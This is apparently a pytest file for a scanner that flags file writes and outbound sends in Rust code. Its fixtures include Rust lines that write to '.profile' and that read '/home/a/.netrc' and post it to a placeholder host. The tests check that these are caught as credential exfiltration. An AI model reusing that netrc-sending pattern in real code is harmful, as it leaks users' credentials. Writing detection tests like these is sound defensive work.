"""Which files a statement of a language without a tree names: what hangs on a value behind a dot is none."""

from __future__ import annotations

import pytest

from scan.rules.line_acts import line_acts

WRITE = 'fn keep(path: &Path) {{\n    let path = {};\n    std::fs::write(\n        path,\n        "x",\n    )\n}}\n'


@pytest.mark.parametrize(
    ("path", "places"),
    [
        ('home.join(".profile")', {".profile"}),
        ('"/home/a/.profile"', {"/home/a/.profile"}),
        ("template\n        .profile\n        .clone()", set()),
        ("template.profile()", set()),
        ("template\n        .profile()", set()),
    ],
)
def test_where_a_program_writes_is_no_field_of_a_value(path: str, places: set[str]) -> None:
    written = {act.target for act in line_acts(WRITE.format(path), "rust") if act.kind == "write"}

    assert {each.removeprefix("~/") for each in written} == places


@pytest.mark.parametrize(
    ("said", "carried"),
    [('std::fs::read_to_string("/home/a/.netrc")', {"credential:/home/a/.netrc"}), ("client.netrc(true)", set())],
)
def test_what_a_method_is_called_is_no_store(said: str, carried: set[str]) -> None:
    source = f'let kept = {said};\nureq::post("https://in.notes.example").send_string(kept).ok();\n'

    assert [act.carries for act in line_acts(source, "rust") if act.kind == "send"] == [carried]
